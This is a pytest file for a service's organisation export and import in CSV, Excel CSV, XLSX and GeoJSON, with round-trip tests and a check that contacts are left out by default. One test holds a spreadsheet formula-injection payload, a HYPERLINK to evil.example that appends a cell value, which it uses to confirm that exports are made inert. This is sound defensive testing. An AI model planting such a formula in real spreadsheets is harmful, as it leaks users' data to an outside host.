"""Export in three formats, and export → import round trips to the same data."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from matcher.models import Organisation
from matcher.profiles import ProfileBuilder
from service.io import (
    COLUMNS,
    ExportFormat,
    ImportFailed,
    export_csv,
    export_geojson,
    export_organisations,
    export_xlsx,
    prepare_import,
)
from service.io.exporting import EXPORT_COLUMNS
from service.io.reading import RawRow, read_rows
from tests.service.conftest import OrganisationFactory


@pytest.fixture
def organisations(make_organisation: OrganisationFactory) -> list[Organisation]:
    return [
        make_organisation(
            id="o-1",
            name='Spedition "Nord", Müller & Co; GmbH',
            address="Hafenstraße 1\n44147 Dortmund",
            estate="Gewerbegebiet Hafen",
            visible_to_peers=True,
            contact_shareable=True,
            contact={"name": "Erika Muster", "email": "erika@example.de", "phone": "+49 231 1234"},
        ),
        make_organisation(
            id="o-2",
            kind="municipality",
            name="Stadt Bochum",
            sector=None,
            employees=3100,
            lat=None,
            lon=None,
            postcode="44787",
            issues=[],
            measures_in_place=[],
            shift_work=False,
        ),
        make_organisation(
            id="o-3",
            kind="craft_business",
            name="Bäckerei",
            sector="C",
            wz_code="10.71.0",
            size_class="50–249",
            employees=149,
            employees_estimated=True,
            lat=48.7758,
            lon=9.1829,
        ),
    ]


def _export(organisations: list[Organisation], file_format: ExportFormat, include_contacts: bool) -> bytes:
    if file_format is ExportFormat.XLSX:
        binary = io.BytesIO()
        export_xlsx(organisations, binary, include_contacts=include_contacts)
        return binary.getvalue()
    text = io.StringIO(newline="")
    if file_format is ExportFormat.CSV_EXCEL:
        export_csv(organisations, text, include_contacts=include_contacts, delimiter=";", decimal_comma=True)
        return text.getvalue().encode("utf-8-sig")
    writer = export_geojson if file_format is ExportFormat.GEOJSON else export_csv
    assert writer(organisations, text, include_contacts=include_contacts) == len(organisations)
    return text.getvalue().encode("utf-8")


@pytest.mark.parametrize("file_format", list(ExportFormat))
def test_export_then_import_round_trips(
    organisations: list[Organisation], builder: ProfileBuilder, file_format: ExportFormat
) -> None:
    data = _export(organisations, file_format, include_contacts=True)
    result = prepare_import(data, builder, filename=f"export{file_format.suffix}")
    assert not isinstance(result, ImportFailed), result.errors
    assert [o.model_dump() for o in result] == [o.model_dump() for o in organisations]


@pytest.mark.parametrize("file_format", list(ExportFormat))
def test_contacts_are_left_out_by_default(
    organisations: list[Organisation], builder: ProfileBuilder, file_format: ExportFormat
) -> None:
    data = _export(organisations, file_format, include_contacts=False)
    assert b"erika@example.de" not in data
    result = prepare_import(data, builder, filename=f"export{file_format.suffix}")
    assert isinstance(result, list)
    assert result[0].contact is None
    assert result[0].contact_shareable is True


@pytest.mark.parametrize("file_format", list(ExportFormat))
def test_an_unknown_sector_is_an_empty_cell_and_imports_back(
    builder: ProfileBuilder, make_organisation: OrganisationFactory, file_format: ExportFormat
) -> None:
    company = make_organisation(id="no-sector", kind="company", sector=None)
    data = _export([company], file_format, include_contacts=False)
    if file_format in (ExportFormat.CSV, ExportFormat.CSV_EXCEL):
        text = data.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text), delimiter=";" if file_format is ExportFormat.CSV_EXCEL else ","))
        assert dict(zip(rows[0], rows[1], strict=True))["sector"] == ""
    if file_format is not ExportFormat.XLSX:  # (XLSX is compressed; its cell is checked by the round trip)
        assert b"None" not in data
    result = prepare_import(data, builder, filename=f"export{file_format.suffix}")
    assert not isinstance(result, ImportFailed), result.errors
    assert [o.model_dump() for o in result] == [company.model_dump()]


def test_csv_has_the_import_columns(organisations: list[Organisation]) -> None:
    rows = list(csv.reader(io.StringIO(_export(organisations, ExportFormat.CSV, False).decode())))
    assert tuple(rows[0]) == (*COLUMNS, "location_precision")  # the import columns, then the derived one
    second = dict(zip(EXPORT_COLUMNS, rows[2], strict=True))
    assert (second["lat"], second["postcode"], second["sector"], second["shift_work"]) == ("", "44787", "", "false")
    assert second["location_precision"] == "postcode"
    first = dict(zip(EXPORT_COLUMNS, rows[1], strict=True))
    assert first["issues"] == "parking_shortage;shift_work"
    assert first["location_precision"] == "coordinates"


def test_geojson_is_wgs84_points_with_derived_properties(organisations: list[Organisation]) -> None:
    document = json.loads(_export(organisations, ExportFormat.GEOJSON, False))
    assert document["type"] == "FeatureCollection"
    feature = document["features"][1]
    assert feature["geometry"]["type"] == "Point"
    lon, lat = feature["geometry"]["coordinates"]
    assert 50.0 < lat < 52.0
    assert 6.5 < lon < 8.0
    properties = feature["properties"]
    assert set(COLUMNS) <= properties.keys()
    assert properties["location_precision"] == "postcode"
    assert properties["municipality"] == "Bochum"
    assert properties["state"] == "DE-NW"
    assert properties["synthetic"] is False
    assert properties["kreis_code"] == organisations[1].location.kreis_code


def test_empty_export_is_valid() -> None:
    assert json.loads(_export([], ExportFormat.GEOJSON, False)) == {"type": "FeatureCollection", "features": []}
    assert _export([], ExportFormat.CSV, False).decode().strip() == ",".join(EXPORT_COLUMNS)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_inert_and_imports_back(
    export_format: str, make_organisation: OrganisationFactory, tmp_path: Path
) -> None:
    names = ['=HYPERLINK("http://evil.example/?"&A2;"klick")', "+49 Firma", "-minus GmbH", "@home KG"]
    organisations = [make_organisation(id=f"f{i}", name=name) for i, name in enumerate(names)]
    path = tmp_path / f"out.{export_format}"
    if export_format == "csv":
        with path.open("w", encoding="utf-8", newline="") as out:
            export_csv(organisations, out)
        text = path.read_text(encoding="utf-8")
        assert "'=HYPERLINK" in text
        assert "\n=" not in text
        assert ",=" not in text
    else:
        export_xlsx(organisations, path)
        import openpyxl

        sheet = openpyxl.load_workbook(path)["organisations"]
        assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value} <= {"s", "n", "b"}
    rows = [row for row in read_rows(path, path.name) if isinstance(row, RawRow)]
    assert [row.values["name"] for row in rows] == names


def test_excel_csv_is_semicolon_separated_with_decimal_commas_and_a_bom(
    organisations: list[Organisation], tmp_path: Path
) -> None:
    path = tmp_path / "excel.csv"
    assert export_organisations(organisations, ExportFormat.CSV_EXCEL, path) == len(organisations)
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert tuple(rows[0]) == EXPORT_COLUMNS
    third = dict(zip(EXPORT_COLUMNS, rows[3], strict=True))
    assert (third["lat"], third["lon"]) == ("48,7758", "9,1829")
    assert (third["wz_code"], third["size_class"], third["employees_estimated"]) == ("10.71.0", "50–249", "true")
